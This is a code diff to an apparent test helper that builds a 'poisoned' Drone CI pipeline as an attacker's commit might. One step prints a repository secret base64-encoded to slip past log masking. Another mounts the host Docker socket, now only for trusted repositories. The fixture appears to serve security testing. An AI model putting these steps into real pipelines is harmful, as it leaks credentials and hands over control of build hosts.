@@ -2,14 +2,17 @@ import { stringify } from 'yaml';
 import { inspectContainer } from '../../../engine/docker';
 import { prefix } from '../isolate';
 
+const socket = '/var/run/docker.sock';
+
 /** What the poisoned pipeline's steps print when they run. */
 export const marks = { step: 'this-step-is-not-yours', dockerfile: 'the-dockerfile-is-mine' } as const;
 
 /**
- * A pipeline of the attacker's own, as a commit brings it: a step of his, the engine's socket, a secret of the
- * repository in a spelling that Drone does not hide.
+ * A pipeline of the attacker's own, as a commit brings it: a step of his, a secret of the repository in a spelling that
+ * Drone does not hide, the engine's socket.
+ * @param o.trusted the repository is one whose steps Drone lets mount what is the host's: no other's pipeline that asks for it runs
  */
-export async function poisonedPipeline(): Promise<string> {
+export async function poisonedPipeline(o: { trusted: boolean }): Promise<string> {
   const image = (await inspectContainer(`${prefix}-ledger`))?.Image ?? '';
   const step = (name: string, command: string, more: object = {}) => ({
     name,
@@ -27,11 +30,11 @@ export async function poisonedPipeline(): Promise<string> {
       step('secret', 'printf %s "$STOLEN" | base64 -w0', {
         environment: { STOLEN: { from_secret: 'registry_password' } },
       }),
-      step('socket', 'docker ps --format "{{.Names}}"', {
-        volumes: [{ name: 'engine', path: '/var/run/docker.sock' }],
-      }),
+      ...(o.trusted
+        ? [step('socket', 'docker ps --format "{{.Names}}"', { volumes: [{ name: 'engine', path: socket }] })]
+        : []),
     ],
-    volumes: [{ name: 'engine', host: { path: '/var/run/docker.sock' } }],
+    ...(o.trusted ? { volumes: [{ name: 'engine', host: { path: socket } }] } : {}),
   });
 }
 
